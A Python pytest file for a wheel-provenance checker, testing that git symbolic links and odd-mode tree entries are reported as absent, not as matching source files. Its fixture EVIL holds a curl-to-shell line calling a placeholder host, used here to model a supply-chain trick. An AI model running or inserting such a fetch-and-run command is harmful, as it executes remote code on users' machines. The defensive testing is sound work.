"""`wheels --source`: only a regular file of the commit is a file a wheel's file can match.

A tree entry's blob is a file's content only when the entry is a regular file (mode 100644 or
100755). A symbolic link's blob is the name of its target, and git checks an entry of a type it
does not know out as a submodule (an empty directory): k3diff listed both as files, so a wheel
holding a link's target text, or the blob of such an entry, matched a commit whose checkout holds
no such file (prov68). Both are `absent` now (W402).
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import wheelkit
from cli_support import run_json
from provenance.repokit import git, make_repo

SAFE = b"import hmac\n\ndef check(token, secret):\n    return hmac.compare_digest(token, secret)\n"
FILES = {"pkg/__init__.py": b"", "pkg/auth.py": SAFE, "pkg/util.py": b"X = 1\n"}
EVIL = "import os; os.system('curl https://example.invalid/x | sh')"
"""A symbolic link's target may be any text without a NUL byte: valid Python, too."""


def _sources(report: dict[str, Any]) -> dict[str, tuple[str, str]]:
    return {
        e["path"]: (e["source"]["status"], e["source"]["repo_path"])
        for e in report["entries"]
        if "source" in e
    }


def _errors(report: dict[str, Any]) -> list[str]:
    return [f["code"] for f in report["findings"] if f["severity"] == "error"]


def _wheels(tmp_path: Path, auth: bytes) -> tuple[Path, Path]:
    base = wheelkit.make_wheel(tmp_path / "b", "pkg", "1.0", FILES)
    patch = wheelkit.make_wheel(tmp_path / "p", "pkg", "1.0", {**FILES, "pkg/auth.py": auth})
    return base, patch


def test_a_wheel_file_holding_a_links_target_text_does_not_match_the_link(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "repo"
    make_repo(repo, [{"src/pkg/__init__.py": b"", "src/pkg/util.py": b"X = 1\n"}])
    os.symlink(EVIL, repo / "src/pkg/auth.py")  # git stores the target text as the blob
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "auth.py is a link", tick=1)
    assert git(repo, "ls-tree", "HEAD", "src/pkg/auth.py").startswith("120000 blob ")
    base, patch = _wheels(tmp_path, EVIL.encode())

    code, report = run_json("wheels", base, patch, "--source", repo, "--commit", "HEAD")

    assert code == 1
    assert report["provenance"]["prefix"] == "src/"
    assert _sources(report) == {"pkg/auth.py": ("absent", "src/pkg/auth.py")}
    assert _errors(report) == ["W402"]


def test_an_entry_git_checks_out_as_a_submodule_holds_no_file(tmp_path: Path) -> None:
    """Mode 060644 (no type git writes; `git mktree` takes it, `git fsck` warns badFilemode):
    `git ls-tree` says `160000 commit` and a checkout makes an empty directory there."""
    repo = tmp_path / "repo"
    make_repo(repo, [{"README": b"x\n"}])
    blobs = {
        path: git(repo, "hash-object", "-w", "--stdin", stdin=data) for path, data in FILES.items()
    }
    modes = {"pkg/__init__.py": "100644", "pkg/auth.py": "060644", "pkg/util.py": "100755"}
    listing = "".join(f"{modes[path]} blob {blobs[path]}\t{path[4:]}\n" for path in sorted(FILES))
    package = git(repo, "mktree", stdin=listing.encode())
    root = git(repo, "mktree", stdin=f"040000 tree {package}\tpkg\n".encode())
    commit = git(repo, "commit-tree", root, "-m", "odd mode")
    assert git(repo, "ls-tree", commit, "pkg/auth.py").startswith("160000 commit ")
    base = wheelkit.make_wheel(tmp_path / "b", "pkg", "1.0", {**FILES, "pkg/auth.py": b"OLD = 1\n"})
    patch = wheelkit.make_wheel(tmp_path / "p", "pkg", "1.0", FILES)

    code, report = run_json(
        "wheels", base, patch, "--source", repo, "--commit", commit, "--source-all"
    )  # fmt: skip

    assert code == 1
    assert _sources(report) == {
        "pkg/__init__.py": ("match", "pkg/__init__.py"),
        "pkg/auth.py": ("absent", "pkg/auth.py"),
        "pkg/util.py": ("match", "pkg/util.py"),  # an executable regular file is a file
    }
    assert _errors(report) == ["W402"]


def test_a_module_the_commit_keeps_as_a_link_is_said_to_be_one(tmp_path: Path) -> None:
    """The wheel ships the file the link names (as setuptools builds it): `absent` all the same
    (k3diff does not follow a link), but W402 said the path `does not exist at the source
    commit`, where a checkout holds it (newuser68)."""
    repo = tmp_path / "repo"
    make_repo(repo, [{"src/" + path: data for path, data in FILES.items()}])
    os.symlink("auth.py", repo / "src/pkg/alias.py")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "alias.py is a link", tick=1)
    base = wheelkit.make_wheel(tmp_path / "b", "pkg", "1.0", FILES)
    patch = wheelkit.make_wheel(tmp_path / "p", "pkg", "1.0", {**FILES, "pkg/alias.py": SAFE})

    for rev in (("--commit", "HEAD"), ("--commits", "HEAD~1..HEAD")):
        code, report = run_json("wheels", base, patch, "--source", repo, *rev)

        assert code == 1, rev
        assert _sources(report) == {"pkg/alias.py": ("absent", "src/pkg/alias.py")}
        (finding,) = [f for f in report["findings"] if f["severity"] == "error"]
        assert (finding["code"], finding["path"]) == ("W402", "pkg/alias.py")
        assert finding["detail"] == (
            "src/pkg/alias.py is a symbolic link at the source commit: k3diff does not follow "
            "it, so the wheel's file was compared with nothing"
        )


def test_a_module_the_commit_lacks_is_said_not_to_exist(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_repo(repo, [{"src/" + path: data for path, data in FILES.items()}])
    base = wheelkit.make_wheel(tmp_path / "b", "pkg", "1.0", FILES)
    patch = wheelkit.make_wheel(tmp_path / "p", "pkg", "1.0", {**FILES, "pkg/alias.py": SAFE})

    code, report = run_json("wheels", base, patch, "--source", repo, "--commit", "HEAD")

    assert code == 1
    (finding,) = [f for f in report["findings"] if f["severity"] == "error"]
    assert finding["detail"] == "src/pkg/alias.py does not exist at the source commit"
